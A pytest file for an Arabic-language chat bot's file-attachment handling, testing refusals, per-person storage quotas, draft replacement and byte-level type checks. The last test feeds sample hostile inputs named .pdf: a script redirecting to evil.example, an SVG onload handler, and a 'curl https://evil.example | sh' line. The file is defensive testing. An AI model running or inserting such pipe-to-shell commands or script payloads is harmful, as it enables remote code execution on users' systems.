"""Files refused for their use are not kept; each person's kept files have a quota per day and in all, said in words;
a page or a script named .pdf is refused by its bytes."""

from __future__ import annotations

from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path

import pytest

from bot.clock import FakeClock
from bot.core import Core
from tests import media
from tests.loop_support import registered, rows
from tests.support import ChatDriver, RecordingTransport, make_core, settings_for, texts

KB = 1000


@pytest.fixture
async def small(tmp_path: Path, clock: FakeClock) -> AsyncIterator[tuple[Core, RecordingTransport]]:
    """A core whose quota is 1 MB a day and 2 MB in all."""
    core, transport = await make_core(settings_for(tmp_path, file_quota_mb=1, file_quota_total_mb=2), clock)
    yield core, transport
    await core.close()


def document(n: int) -> bytes:
    """A 600 kB PDF, different for each n."""
    return b"%PDF-1.4\n%" + bytes([n]) * 600 * KB


async def kept(core: Core) -> int:
    await core.files.flush()
    return len(await rows(core, "SELECT id FROM files WHERE deleted_at IS NULL"))


async def at_text_step(chat: ChatDriver) -> None:
    await chat.command("recommend", "4")
    if any("محور آخر" in label for label in chat.labels()):
        await chat.press("محور آخر")


async def test_files_refused_for_their_use_are_not_kept(core: Core, transport: RecordingTransport) -> None:
    chat = await registered(core, transport, "1001", "سلمى")
    for n in range(3):
        assert "لا أستطيع استخدام هذا هنا" in texts(await chat.send_file(f"{n}.pdf", document(n)))
    assert await kept(core) == 0 and not list(core.receiver.store.stored())
    await at_text_step(chat)
    assert "يمكنك إرفاق صورة أو ملف" in texts(await chat.send_file("t.csv", b"a,b\n1,2\n"))  # a table: not here
    assert await kept(core) == 0


async def attach(chat: ChatDriver, n: int) -> str:
    """Attach document n to a new recommendation and, when it is taken, send it (the file is kept with it)."""
    await at_text_step(chat)
    said = texts(await chat.send_file(f"{n}.pdf", document(n)))
    if "أرفقنا الملف" in said:
        await chat.send(f"نقترح نشر التقرير رقم {n} عن الخدمات في المحافظة كاملاً")
        assert "رقم الإيصال" in texts(await chat.press("✅ إرسال"))
    else:
        await chat.command("cancel")
    return said


async def test_each_persons_files_have_a_quota_per_day_and_in_all(
    small: tuple[Core, RecordingTransport], clock: FakeClock
) -> None:
    core, transport = small
    chat = await registered(core, transport, "1001", "سلمى")
    other = await registered(core, transport, "1002", "هدى")
    assert "أرفقنا الملف" in await attach(chat, 1)  # 600 kB today
    day = await attach(chat, 2)  # 1.2 MB in 24 hours: past 1 MB
    assert "آخر 24 ساعة 1 ميغابايت، وهو الحد اليومي" in day and "لم نحفظ منه شيئاً" in day
    assert "أرفقنا الملف" in await attach(other, 2)  # someone else's quota is theirs
    assert await kept(core) == 2
    for n in (3, 4):
        clock.advance(timedelta(hours=25))
        assert "أرفقنا الملف" in await attach(chat, n)  # 1.2 MB, then 1.8 MB in all
    clock.advance(timedelta(hours=25))
    total = await attach(chat, 5)  # 2.4 MB in all: past 2 MB
    assert "بلغت ملفاتك المحفوظة 2 ميغابايت، وهو الحد لكل شخص" in total
    assert await kept(core) == 4
    sizes = await rows(core, "SELECT SUM(size) AS n FROM files WHERE chat = '1001' OR participant_id IS NOT NULL")
    assert sizes[0]["n"] <= 2 * 1024 * 1024 + 600 * KB


async def test_a_file_replaced_in_a_draft_is_erased(core: Core, transport: RecordingTransport) -> None:
    chat = await registered(core, transport, "1001", "سلمى")
    await at_text_step(chat)
    assert "أرفقنا الملف" in texts(await chat.send_file("1.pdf", document(1)))
    replaced = texts(await chat.send_file("2.pdf", document(2)))  # one file a recommendation: the newest
    assert "📎 2.pdf" in replaced and "1.pdf" not in replaced
    assert await kept(core) == 1
    [(digest, _)] = list(core.receiver.store.stored())
    assert core.receiver.store.read(digest) == document(2)


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html><html><body><script>document.location='https://evil.example'</script></body></html>",
        b"  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"#!/bin/sh\ncurl https://evil.example | sh\n",
    ],
)
async def test_a_page_or_a_script_named_pdf_is_refused_by_its_bytes(
    core: Core, transport: RecordingTransport, data: bytes
) -> None:
    chat = await registered(core, transport, "1001", "سلمى")
    await at_text_step(chat)
    assert "نوعه غير مقبول" in texts(await chat.send_file("report.pdf", data, "application/pdf"))
    assert await rows(core, "SELECT id FROM files") == [] and not list(core.receiver.store.stored())
    assert "أرفقنا الملف" in texts(await chat.send_file("report.pdf", media.pdf()))
